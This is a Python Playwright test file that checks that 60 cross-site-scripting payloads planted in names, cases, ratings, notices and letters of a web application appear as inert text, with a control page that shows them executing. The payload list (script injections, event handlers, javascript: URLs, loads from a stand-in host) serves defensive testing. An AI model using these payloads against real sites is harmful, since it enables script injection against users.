"""T31: sixty ways to smuggle a script in, through every text that people write, served and opened in Chromium: all of it stays text."""

import contextlib
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace

import pytest
from playwright.async_api import Browser, BrowserContext, Dialog, Error, Page, Request

from config import clock
from config.vocabulary import Action
from models.account import Account
from models.case import Case
from models.notice import Mail, Notice
from models.organisation import Organisation
from services import letters, notice_keeping, notices, ratings
from services.cases import engine
from services.files import Attached
from services.regions import Region
from tests import builders
from tests.foreign_files import a_pdf

from .test_t03_permissions import routes

pytestmark = [pytest.mark.req("T31"), pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(600)]
AWAY = "http://xss.invalid/"
RUN = "alert(document.domain)"
PAYLOADS = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={AWAY}a.js></script>", f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"</script><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f'<img src="x" onerror="{RUN}">',
    f"<img src={AWAY}pixel.png>", f"<IMG SRC=x OnErRoR={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror=\n{RUN}\n>",
    f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>", f"`><img src=x onerror={RUN}>", f"\" onmouseover={RUN} x=\"",
    f"' onfocus={RUN} autofocus x='", f"\" autofocus onfocus={RUN} \"", f"<svg onload={RUN}>", f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='{AWAY}x.svg#x'></use></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<body onload={RUN}>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src={AWAY}></iframe>", f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>", f"<link rel=stylesheet href={AWAY}a.css>", f"<style>@import '{AWAY}b.css'</style>",
    f"<style>*{{background:url({AWAY}c)}}</style>", f"<p style=\"background:url({AWAY}d)\">x</p>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}>", f"<form action={AWAY}><input autofocus onfocus={RUN}></form>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>", f"<details open ontoggle={RUN}>x</details>", f"<video><source onerror={RUN}></video>",
    f"<video src={AWAY}v onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"[x](javascript:{RUN})", f"![x]({AWAY}md.png)", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"{{{{constructor.constructor('{RUN}')()}}}}", f"\u2028<script>{RUN}</script>",
)
#: In every page, before its own scripts: what the content policy had to stop is an entry, too.
WATCH = "window.__stopped = []; addEventListener('securitypolicyviolation', e => window.__stopped.push(e.violatedDirective + ' ' + e.blockedURI));"


@dataclass
class Seen:
    """What happened in a browser that was not to happen."""

    base: str
    where: str = ""
    happened: list[str] = field(default_factory=list)

    async def watch(self, context: BrowserContext) -> Page:
        await context.add_init_script(WATCH)
        await context.route(f"{AWAY}**", lambda route: route.abort())
        page = await context.new_page()
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        return page

    async def _dialog(self, dialog: Dialog) -> None:
        self.happened.append(f"{self.where}: a dialog")
        await dialog.dismiss()

    def _request(self, request: Request) -> None:
        if not request.url.startswith((self.base, "data:image/", "blob:", "about:", "chrome")):  # the browser's own
            self.happened.append(f"{self.where}: asked for {request.url}")

    async def look_at(self, page: Page, path: str) -> str:
        """Open it, wait until its scripts ran, and give its words."""
        self.where = path
        try:
            answer = await page.goto(f"{self.base}{path}", wait_until="load")
        except Error as error:
            if "Download is starting" in str(error):  # a file to keep: nothing of it is shown
                return ""
            raise
        assert answer is not None and answer.status < 500, path
        self.happened += [f"{path}: stopped {one}" for one in await page.evaluate("window.__stopped || []")]
        return await page.evaluate("document.body.innerText + [...document.querySelectorAll('input, textarea')].map(one => one.value).join(' ')")


def pieces(many: int) -> Iterator[Sequence[str]]:
    return (PAYLOADS[start:start + many] for start in range(0, len(PAYLOADS), many))


@dataclass
class Planted:
    """Who looks, and where what was written stands."""

    holder: Account
    clerk: Account
    city: Account
    cases: list[Case]
    notices: list[Notice]
    mail: Mail


async def planted(region: Region) -> Planted:
    """Every payload as a person's name, in a form, an opinion, a mark, an addition, a rating, a notice in both writings, a letter."""
    window = await builders.an_organisation()
    city, clerk = await builders.a_city_staff(PAYLOADS[13]), await builders.a_staff(organisation=window, name=PAYLOADS[14])
    holder = await Account.find(region.code, (await builders.a_card(holder=await builders.a_talent(name=PAYLOADS[12]))).holder_id)
    cases = []
    for some in pieces(5):
        cases.append(await a_case(region, some, holder if not cases else None))
    for payload in PAYLOADS:
        await builders.a_talent(name=payload)
        await builders.a_staff(name=payload)
    return Planted(holder, clerk, city, cases, await written(region, city), await a_letter(region, city, window))


async def a_case(region: Region, some: Sequence[str], holder: Account | None) -> Case:
    words = "\n".join(some)
    case = await builders.a_booking(need=words, completed=True, **({"holder": holder} if holder else {}))
    applicant = await Account.find(region.code, case.applicant_id)
    mine = await builders.the_actor(applicant)
    await ratings.rate_case(region, mine, case.id, 3, words, clock.now())
    applicant.name = some[0]
    await applicant.save()
    again = await builders.a_booking(need=words, holder=applicant)
    clerk = await builders.a_handler(again)
    again = (await engine.act(region, mine, again.id, engine.Request(Action.SUPPLEMENT, again.version, words), clock.now())).case
    marks = {"need": words}
    return (await engine.act(region, clerk, again.id, engine.Request(Action.RETURN, again.version, words, marks=marks), clock.now())).case


async def written(region: Region, city: Account) -> list[Notice]:
    author = await builders.the_actor(city)
    said = [replace(notice_keeping.Written(some[0][:60], "\n\n".join(some)), written_as=way) for some in pieces(12) for way in ("marks", "html")]
    return [await notice_keeping.write(region, author, notices.NOTICES, one, clock.now(), publish=True) for one in said]


async def a_letter(region: Region, author: Account, to: Organisation) -> Mail:
    enclosed = [Attached(f"{name}.pdf", a_pdf(number)) for number, name in enumerate(PAYLOADS[12:15], 1)]
    said = letters.Written(PAYLOADS[19], "\n".join(PAYLOADS)[:3000], [to.id])
    return await letters.send(region, await builders.the_actor(author), said, enclosed, clock.now())


def plain_pages(region: Region, face: str) -> list[str]:
    """Every page of a face whose address names nothing."""
    found = sorted({f"/{route.path}".replace("/<region:str>", f"/{region.code}") for route, method in routes() if method == "GET"})
    desk = f"/{region.code}/console"
    return [path for path in found if "<" not in path and "/api/" not in path and not path.endswith(("/live", "callback", ".png", "login/wechat"))
            and path.startswith(desk) is (face == "desk")]


async def logged_in(browser: Browser, base: str, who: Account, face: str) -> BrowserContext:
    context = await browser.new_context(viewport={"width": 1440, "height": 900} if face == "desk" else {"width": 390, "height": 844})
    session = builders.cookies(await builders.a_session(who, face), face)
    await context.add_cookies([{"name": name, "value": value, "url": f"{base}/{who.region}/"} for name, value in session.items()])
    return context


async def test_t31_nothing_that_people_write_runs_loads_or_is_stopped_only_by_the_policy(
        browser: Browser, product: str, database: None, region: Region) -> None:
    there = await planted(region)
    seen, read = Seen(product), ""
    at, desk = f"/{region.code}", f"/{region.code}/console"
    cases = [f"/cases/{case.id}" for case in there.cases]
    places = {
        ("desk", there.city): [*plain_pages(region, "desk"), *(f"{desk}{path}/" for path in cases), f"{desk}/query?everywhere=yes",
                               *(f"{desk}/notices/{one.id}" for one in there.notices), f"{desk}/mailbox/{there.mail.id}"],
        ("desk", there.clerk): [f"{desk}/todo", f"{desk}/mailbox", f"{desk}/mailbox/{there.mail.id}"],
        ("phone", there.holder): [*plain_pages(region, "phone"), f"{at}{cases[0]}", f"{at}{cases[0]}/correction",
                                  *(f"{at}/notices/{one.id}" for one in there.notices)],
    }
    for (face, who), paths in places.items():
        context = await logged_in(browser, product, who, face)
        page = await seen.watch(context)
        for path in paths:
            read += await seen.look_at(page, path)
        await context.close()
    assert seen.happened == []
    unseen = [payload for payload in PAYLOADS if "".join(payload.split()) not in "".join(read.split())]
    assert unseen == []  # each of them was on a page, as words


async def test_t31_control_in_a_page_that_does_not_escape_them_they_run(browser: Browser, product: str) -> None:
    seen, ran = Seen(product), 0
    context = await browser.new_context()
    await context.route(f"{product}/raw", lambda route: route.fulfill(content_type="text/html", body=raw))
    for payload in PAYLOADS:
        before, raw = len(seen.happened), f'<!doctype html><title>x</title><p>{payload}</p><input value="{payload}">'
        page = await seen.watch(context)
        with contextlib.suppress(Error):  # some lead the page away
            await page.goto(f"{product}/raw")
            await page.evaluate("new Promise(done => requestAnimationFrame(() => setTimeout(done)))")
        await page.close()
        ran += len(seen.happened) > before
    await context.close()
    assert ran > len(PAYLOADS) // 2
    assert len(set(PAYLOADS)) == 60
